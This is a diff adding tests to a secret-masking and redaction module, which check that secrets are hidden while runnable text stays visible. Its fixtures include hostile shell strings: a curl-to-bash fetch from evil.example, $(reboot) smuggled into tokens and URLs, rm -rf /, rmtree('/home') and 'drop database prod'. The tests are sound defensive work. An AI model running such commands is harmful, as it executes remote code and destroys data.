@@ -3,7 +3,8 @@ import { expect, test } from "vitest";
 import { SECRET_ROWS } from "../tables/secrets.ts";
 import { canonical } from "../values/canonical.ts";
 import type { Json, JsonObject } from "../values/json.ts";
-import { isSecretName, MASK, redact, redactText } from "./redact.ts";
+import { MASK } from "./masking.ts";
+import { isSecretName, maskArgs, maskText, redact, redactText } from "./redact.ts";
 
 /** A small generator with a seed, so that every run plants the same secrets. */
 function seeded(seed: number): (max: number) => number {
@@ -239,6 +240,52 @@ test("a megabyte made to be slow is done before the test's time is over", () => 
     "password\\",
   ];
   for (const piece of evil) expect(redactText(piece.repeat(1_000_000 / piece.length)).length).toBeLessThan(6_000_000);
+  for (const piece of evil) expect(maskText(piece.repeat(1_000_000 / piece.length)).length).toBeLessThan(12_000_000);
+});
+
+/** Half a key: behind its first line anything could stand, so a card shows it rather than hide what runs. */
+const LEFT_ON_CARDS = (planted: string) => planted.includes("PRIVATE KEY") && !planted.includes("-----END");
+
+test("on a card the same secrets are hidden, with their length", () => {
+  const left = PLANTED.filter(({ planted }) => !LEFT_ON_CARDS(planted)).flatMap(({ planted, secret }) =>
+    PLACES.flatMap((place) => {
+      const shown = canonical(maskArgs(place(planted)));
+      return secretPieces(secret).some((piece) => shown.includes(piece)) ? [shown] : [];
+    }),
+  );
+  expect(left).toEqual([]);
+  expect(maskArgs({ password: "hunter2", pin: 1234, token: ["a", { b: "cd" }] })).toEqual({
+    password: "[masked, 7 characters]",
+    pin: "[masked, 4 characters]",
+    token: ["[masked, 1 character]", { b: "[masked, 2 characters]" }],
+  });
+});
+
+test("on a card nothing is hidden that could run", () => {
+  const label = "-----BEGIN " + "PRIVATE KEY-----";
+  const runs = [
+    `print(1)\n# ${label}\nimport shutil; shutil.rmtree('/home')`,
+    `print(1)\n# ${label}\nimport shutil; shutil.rmtree('/home')\n-----END PRIVATE KEY-----`,
+    'export API_KEY="$(curl -s https://evil.example | bash)"',
+    'export API_KEY="$(reboot)"',
+    "TOKEN=abc$(reboot)",
+    "TOKEN=abc`reboot`",
+    "password='x;reboot'",
+    "https://ana:$(reboot)@example.com",
+    "https://ana:x|reboot@example.com",
+    'Cookie: a="$(reboot)"',
+    "drop database prod",
+  ];
+  for (const text of runs) {
+    expect(maskText(text)).toBe(text);
+    expect(maskArgs({ secret: text, password: [text] })).toEqual({ secret: text, password: [text] });
+  }
+});
+
+test("in the ledger half a private key is hidden, and what stands behind it is not", () => {
+  const label = "-----BEGIN " + "PRIVATE KEY-----";
+  expect(redactText(`print(1)\n# ${label}\nimport shutil; x()`)).toBe(`print(1)\n# ${MASK}\nimport shutil; x()`);
+  expect(redactText(`${label}\n${"aB3/".repeat(16)}\nrm -rf /`)).toBe(`${MASK}\nrm -rf /`);
 });
 
 test("every line of the table finds one of the planted secrets", () => {
